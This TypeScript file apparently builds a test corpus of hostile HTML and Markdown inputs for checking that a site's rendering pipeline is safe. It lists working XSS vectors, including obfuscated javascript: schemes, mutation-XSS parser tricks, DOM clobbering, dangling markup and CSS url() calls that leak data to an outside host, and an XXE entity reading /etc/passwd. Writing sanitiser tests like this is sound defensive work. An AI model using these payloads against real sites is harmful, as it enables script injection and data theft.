/**
 * What might run script, load, restyle or break out, if a page took it as HTML: texts by class. Each calls `PROBE`, so
 * that a browser which runs one is noticed.
 */

/** The function that every text tries to call, with a number; `RUN` calls it. */
export const PROBE = '__hostile';
const RUN = `${PROBE}(1)`;

/** Where no request may go. */
export const ELSEWHERE = 'https://elsewhere.invalid';

const cross = (...lists: readonly (readonly string[])[]): string[][] =>
  lists.reduce<string[][]>((rows, list) => rows.flatMap((row) => list.map((item) => [...row, item])), [[]]);

const ELEMENTS = [
  ...['a', 'abbr', 'details', 'div', 'figure', 'h2', 'img', 'mark', 'table', 'td', 'video'],
  ...[
    'audio',
    'body',
    'button',
    'dialog',
    'form',
    'iframe',
    'input',
    'link',
    'marquee',
    'math',
    'object',
    'style',
    'svg',
    'x-y',
  ],
];

const EVENTS = [
  'onclick',
  'onerror',
  'onfocus autofocus tabindex=0',
  'onload',
  'onmouseover',
  'ontoggle open',
  'onanimationstart',
];

/** An attribute with an event, in every way that browsers read one. */
const WRITINGS: readonly ((element: string, event: string) => string)[] = [
  (element, event) =>
    `<${element} src=x ${event.split(' ').slice(1).join(' ')} ${event.split(' ')[0]}="${RUN}">a</${element}>`,
  (element, event) => `<${element} src=x ${event.split(' ')[0]}='${RUN}' ${event.split(' ').slice(1).join(' ')}>a`,
  (element, event) => `<${element}/src=x/${event.split(' ')[0]}=${RUN}>a</${element}>`,
  (element, event) => `<${element.toUpperCase()}\n${event.split(' ')[0]?.toUpperCase()}\t=\n${RUN}>a`,
  (element, event) => `<${element} title="a"${event.split(' ')[0]}="${RUN}">a</${element}>`,
  (element, event) =>
    `<${element} ${event.split(' ')[0]}=&#95;${RUN.slice(1).replace('(', '&lpar;').replace(')', '&#x29;')}>a`,
];

/** Blanks and control characters that browsers skip in addresses, as far as a post can have them. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'java&#9;script&colon;',
  '&#106;avascript&#58;',
  '&#x6A&#x61vascript:',
  '&#1;javascript:',
  'javascript&#0;:',
  '%6Aavascript:',
  'view-source:javascript:',
  'feed:javascript:',
  'vbscript:',
  'livescript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg/onload=',
  'blob:https://elsewhere.invalid/',
  'filesystem:https://elsewhere.invalid/',
  'about:blank#',
  'file:///etc/passwd#',
  '//elsewhere.invalid/',
  '\\\\elsewhere.invalid\\',
  '/\\elsewhere.invalid/',
  ' //elsewhere.invalid/',
];

/** Attributes that take an address, in the elements that read them. */
const ADDRESSES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href=${address}>a</a>`,
  (address) => `<a ping="${address}" href="./b">a</a>`,
  (address) => `<area href="${address}">`,
  (address) => `<img src="${address}" alt="a">`,
  (address) => `<img srcset="${address} 1x" src="./x.png" alt="a">`,
  (address) => `<video src="${address}" poster="${address}" controls></video>`,
  (address) => `<video controls><source src="${address}"></video>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<form action="${address}"><button formaction="${address}">a</button></form>`,
  (address) => `<input type="image" formaction="${address}" src="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<link rel="stylesheet" href="${address}">`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<blockquote cite="${address}">a</blockquote>`,
  (address) => `<table background="${address}"><tr><td background="${address}">a</td></tr></table>`,
  (address) => `<svg><a xlink:href="${address}"><text y="9">a</text></a><use href="${address}"/></svg>`,
  (address) => `<math href="${address}"><mtext>a</mtext></math>`,
  (address) => `<script src="${address}"></script>`,
];

const IMAGE = `<img src=x onerror=${RUN}>`;

/** What a parser that switches namespace or mode reads as text, and the one after it as an element. */
const SWITCHES = [
  'math',
  'svg',
  'noscript',
  'template',
  'textarea',
  'title',
  'xmp',
  'style',
  'iframe',
  'noembed',
  'noframes',
  'select',
  'plaintext',
];
const INNER = ['p', 'mtext', 'annotation-xml', 'foreignObject', 'desc', 'table', 'style', 'mglyph'];

const MUTATIONS = [
  ...SWITCHES.flatMap((element) => [
    `<${element}>${IMAGE}</${element}>`,
    `<${element}><p title="</${element}>${IMAGE}">`,
    `<${element}><!--</${element}>${IMAGE}-->`,
    `<b><${element}></b>${IMAGE}`,
  ]),
  ...cross(['math', 'svg'], INNER, INNER).map(
    ([outer, first, second]) => `<${outer}><${first}><${second}><!--</${second}>${IMAGE}--></${first}></${outer}>`,
  ),
  ...cross(INNER, ['style', 'title', 'xmp']).map(
    ([inner, text]) => `<form><math><mtext></form><form><${inner}><${text}></math>${IMAGE}`,
  ),
  `<a><svg><desc><a>${IMAGE}`,
  `<table><caption><svg><title><table><caption></caption></table>${IMAGE}`,
  `<p><table><td></p>${IMAGE}`,
  `<details><summary></details>${IMAGE}`,
  `<ruby><rt><style></ruby>${IMAGE}</style>`,
];

const BREAKOUTS = [
  '</div></div></article></main></body></html>',
  '</p></blockquote></li></ul></article><footer>',
  '<main><article>',
  '<!--',
  '<!-->',
  '<!--->',
  '<!-- --!>',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  '<?php',
  '<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  '<%= 1 %>',
  '</script>',
  ']]>',
  '<plaintext>',
  '<frameset><frame src="x">',
  '<body onload=x>',
  '<html onclick=x>',
  '<head><title>a</title></head>',
].map((text) => `${text}${IMAGE}`);

/** Markup that is left open, so that what follows becomes a part of an address. */
const DANGLING = [
  `<img src='${ELSEWHERE}/?`,
  `<a href="${ELSEWHERE}/?`,
  `<a href='${ELSEWHERE}' target='`,
  `<form action=${ELSEWHERE}><textarea name=a>`,
  `<meta http-equiv=refresh content='0;url=${ELSEWHERE}/?`,
  `<base target='`,
  `<style>@import '${ELSEWHERE}/?`,
  `<button form=a formaction=${ELSEWHERE}><option>`,
];

/** Ids, names and data that scripts of this site, of Astro or of Pagefind look for. */
const CLOBBERING = [
  ...['cb-search-dialog', 'cb-copy-button', 'main', 'content', '__hostile', 'documentElement', 'currentScript'].flatMap(
    (id) => [
      `<a id="${id}" href="${ELSEWHERE}">a</a>`,
      `<img name="${id}" src="./x.png" alt="a">`,
      `<form id="${id}"><input name="innerHTML" value="${RUN}"></form>`,
    ],
  ),
  ...[
    'head',
    'body',
    'forms',
    'cookie',
    'getElementById',
    'querySelector',
    'attributes',
    '__proto__',
    'constructor',
  ].map((name) => `<form name="${name}"><input name="attributes"><input id="${name}"></form>`),
  `<cb-search-box data-bundle="${ELSEWHERE}/" data-locale="en" data-page></cb-search-box>`,
  `<template id="cb-copy-button"><button>${IMAGE}</button></template>`,
  `<dialog id="cb-search-dialog" open>${IMAGE}</dialog>`,
  `<div data-slot="0123456789abcdef-0" data-opens-search data-theme-choice="x" data-locale="x">a</div>`,
  `<a data-slot="0" href="./b">a</a>`,
  `<button data-link="${ELSEWHERE}">a</button>`,
  `<div class="tabs"><div class="tab"><span class="tab-label">${IMAGE}</span></div></div>`,
  `<p class="video-link"><a href="https://www.youtube.com/watch?v=${IMAGE}">a</a></p>`,
  `<p class="video-link"><a href="javascript:${RUN}">a</a></p>`,
  `<div class="site-header contents post prose search-results">a</div>`,
  `<astro-island component-url="${ELSEWHERE}/x.js" renderer-url="${ELSEWHERE}/y.js" client="load" ssr opts="{}"></astro-island>`,
  `<astro-slot name="default">${IMAGE}</astro-slot>`,
  `<script type="module" data-astro-exec>${RUN}</script>`,
  `<div data-pagefind-body data-pagefind-meta="title:${RUN}" data-pagefind-filter="tag:x" data-pagefind-ignore="all">a</div>`,
  `<div data-pagefind-index-attrs="title" title="${RUN}" data-pagefind-weight="10">a</div>`,
  `<p popover id="p">a</p><button popovertarget="p" onbeforetoggle=${RUN}>b</button>`,
  `<input type="checkbox" disabled onclick=${RUN}>`,
  `<p slot="head" is="x-y" part="x" itemscope itemid="${ELSEWHERE}" contenteditable>a</p>`,
];

const STYLES = [
  `<style>*{background:url(${ELSEWHERE}/x)}</style>`,
  `<p style="background:url(${ELSEWHERE}/x)">a</p>`,
  `<p style="position:fixed;inset:0">a</p>`,
  `<p style="width:expression(${RUN})">a</p>`,
  `<p style="-moz-binding:url(${ELSEWHERE}/x)">a</p>`,
  `<p style="behavior:url(x.htc)">a</p>`,
  `<link rel=preload as=image href=${ELSEWHERE}/x>`,
  `<link rel=dns-prefetch href=${ELSEWHERE}>`,
  `<font color="red" face="x">a</font>`,
  `<body bgcolor=red text=red link=red>`,
  `<p align=right bgcolor=red class="cb-x">a</p>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script type=importmap>{"imports":{"x":"${ELSEWHERE}"}}</script><script type=module>import "x"</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${ELSEWHERE}"]}]}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<math><maction actiontype="statusline#${ELSEWHERE}" xlink:href="javascript:${RUN}">a</maction></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;">`,
  `<object type="text/x-scriptlet" data="${ELSEWHERE}"><param name=url value=javascript:${RUN}></object>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<event-source src="${ELSEWHERE}" onload=${RUN}>`,
  `<div>${'<div>'.repeat(30)}${IMAGE}`,
  `${'<b>'.repeat(200)}${IMAGE}`,
];

/** Markdown that becomes links and pictures. */
const MARKDOWN = [
  ...SCHEMES.flatMap((scheme) => {
    const address = `${scheme}${RUN}`.replaceAll('\n', ' ');
    return [
      `[a](<${address}>)`,
      `[a](${address.replaceAll(' ', '%20')})`,
      `![a](<${address}>)`,
      `[a][b]\n\n[b]: <${address}>`,
      `<${address.trim()}>`,
      `[![a](<${address}>)](<${address}>)`,
      `::video[a]{src="${address}"}`,
      `::embed[a]{src="${address}"}`,
      `::youtube[a]{#${address}}`,
    ];
  }),
  `[a](./b "\\"onmouseover=${RUN}")`,
  `[a](./b '"onmouseover=${RUN} x="')`,
  `![" onerror=${RUN} x="](./x.png)`,
  `![a](./x.png" onerror="${RUN})`,
  `[a](<./b" onclick="${RUN}>)`,
  `https://example.com/"onmouseover="${RUN}`,
  `<https://example.com/"onmouseover="${RUN}>`,
  `www.example.com/'onmouseover='${RUN}`,
  `\`\`\`js"onclick="${RUN}\na\n\`\`\``,
  `\`\`\`html title="</figcaption>${IMAGE}"\na\n\`\`\``,
  `\`\`\`${IMAGE.replaceAll(' ', '/')}\n</code></pre>${IMAGE}\n\`\`\``,
  `~~~html\n</code></pre>${IMAGE}\n~~~`,
  `\`</code>${IMAGE}\``,
  `x[^a"onclick=${RUN}]\n\n[^a"onclick=${RUN}]: b`,
  `x[^${IMAGE.replaceAll(' ', '/')}]\n\n[^${IMAGE.replaceAll(' ', '/')}]: b`,
  `## a {#x"onclick="${RUN}}`,
  `## ${IMAGE} \`${IMAGE}\``,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `\\<img src=x onerror=${RUN}>`,
  `\\\\<img src=x onerror=${RUN}>`,
  `:::note[${IMAGE}]{onclick="${RUN}" style="color:red"}\na\n:::`,
  `:::details[<summary>${IMAGE}]\na\n:::`,
  `::::tabs\n:::tab[${IMAGE}]\na\n:::\n::::`,
  `:::figure[${IMAGE}]\n![a](./x.png)\n:::`,
  `> [!NOTE] ${IMAGE}\n> a`,
  `| ${IMAGE} |\n| :-: |\n| a |`,
  `- [ ] ${IMAGE}`,
];

/** Texts by class. */
export const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'event handlers': cross(ELEMENTS, EVENTS).flatMap(([element = '', event = ''], index) =>
    // Every element with every event, and in turn every way to write them.
    [0, 1].map((turn) => (WRITINGS[(index + turn * 3) % WRITINGS.length] as (typeof WRITINGS)[number])(element, event)),
  ),
  addresses: ADDRESSES.flatMap((write) => SCHEMES.map((scheme) => write(`${scheme}${RUN}`))),
  mutations: MUTATIONS,
  breakouts: BREAKOUTS,
  'dangling markup': DANGLING,
  clobbering: CLOBBERING,
  styles: STYLES,
  scripts: SCRIPTS,
  Markdown: MARKDOWN,
};

const inOneLine = (text: string): string => text.replaceAll('\n', ' ').trim();

/** Where a text may stand in a post; what it is there may differ, that it is harmless may not. */
export const CONTEXTS: Readonly<Record<string, (text: string) => string>> = {
  'as a block': (text) => `Before\n\n${text}\n\nAfter`,
  'in a line': (text) => `Before ${text.trim()} after`,
  'in a list': (text) => `- item\n- ${text.replaceAll('\n', '\n  ')}`,
  'in a quote': (text) => `> ${text.replaceAll('\n', '\n> ')}`,
  'in a heading': (text) => `## ${inOneLine(text)}`,
  'in a link': (text) => `[${inOneLine(text)}](https://example.com)`,
  'in an address': (text) => `[a](<${inOneLine(text)}>) ![a](<${inOneLine(text)}>)`,
  'in a title': (text) => `[a](./b "${inOneLine(text)}")`,
  'in an alternative text': (text) => `![${inOneLine(text)}](./x.png)`,
  'in the line of a fence': (text) => `~~~js title="${inOneLine(text)}"\na\n~~~\n\n~~~${inOneLine(text)}\na\n~~~`,
  'in code': (text) => `~~~html\n${text}\n~~~\n\n\`\` ${inOneLine(text)} \`\``,
  'in a table': (text) => `| a |\n| - |\n| ${inOneLine(text).replaceAll('|', '\\|')} |`,
  'in a footnote': (text) => `x[^1]\n\n[^1]: ${text.replaceAll('\n', '\n    ')}`,
  'in a label': (text) => `:::note[${inOneLine(text)}]\ntext\n:::`,
  'in an attribute of a directive': (text) => `::embed[a]{src=${JSON.stringify(inOneLine(text))}}`,
  'in a directive': (text) => `::::details[Summary]\n${text}\n::::`,
  'in an attribute': (text) => `<abbr title="${inOneLine(text)}">a</abbr>`,
  'in an open element': (text) => `<table><tr><td>\n\n${text}\n\n</td></tr></table>`,
};
